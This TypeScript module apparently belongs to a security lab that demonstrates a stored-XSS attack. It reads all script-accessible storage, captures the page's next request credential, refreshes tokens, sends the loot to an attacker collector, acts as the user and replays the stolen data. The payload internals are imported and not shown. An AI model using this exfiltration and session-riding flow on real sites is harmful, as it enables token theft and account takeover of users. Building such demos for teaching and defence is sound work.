import type { LabRequests, LabResult, Loot, Replay } from './api/lab-requests';
import {
  actFromThePage,
  catchNextRequest,
  findTokens,
  readEverythingAScriptCan,
  refreshAsThePage,
  type CaughtRequest,
  type FoundToken,
  type ScriptRequest,
  type StorageLoot,
} from './xss-payload';

/** One run of the payload, as the lab shows it. */
export interface XssOutcome {
  attacker: string;
  /** What the collector received, from its own answer: exactly what left the page. */
  loot: Loot;
  /** The storage part of it, as read in the page. */
  storage: StorageLoot;
  /** Every token that left the page, deduplicated, with where the script got it first. */
  tokens: FoundToken[];
  caught: CaughtRequest | null;
  refreshed: ScriptRequest;
  acted: ScriptRequest;
  /** The collector's record of what acting from the page returned. */
  actedLoot: LabResult<Loot>;
  replay: LabResult<Replay>;
}

/**
 * What a stored XSS would do here: take everything readable, catch the credential of the page's
 * next request, refresh as the page would, act as the user from the page, send all of it home,
 * and let the attacker replay what it got from its own server.
 */
export async function runXssPayload(lab: LabRequests, nudge: () => Promise<unknown>): Promise<LabResult<XssOutcome>> {
  const attacker = await lab.attackerOrigin();
  if (!attacker.ok) return attacker;
  const storage = await readEverythingAScriptCan();
  const caught = await catchNextRequest(nudge);
  const refreshed = await refreshAsThePage(storage);
  const sent = await lab.sendHome(attacker.value, 'storage', { ...storage, caught, refreshed: { request: refreshed.request, status: refreshed.status, answer: refreshed.answer } });
  if (!sent.ok) return sent;
  const acted = await actFromThePage(storage, caught, refreshed);
  const actedLoot = await lab.sendHome(attacker.value, 'session-ride', acted);
  const replay = await lab.replay(attacker.value, sent.value.id);
  return { ok: true, value: { attacker: attacker.value, loot: sent.value, storage, tokens: distinctTokens(sent.value.data), caught, refreshed, acted, actedLoot, replay } };
}

/** Tokens by value: the same access token read from storage and caught on the wire is one token. */
export function distinctTokens(data: unknown): FoundToken[] {
  const seen = new Map<string, FoundToken>();
  for (const token of findTokens(data)) if (!seen.has(token.value)) seen.set(token.value, token);
  return [...seen.values()];
}
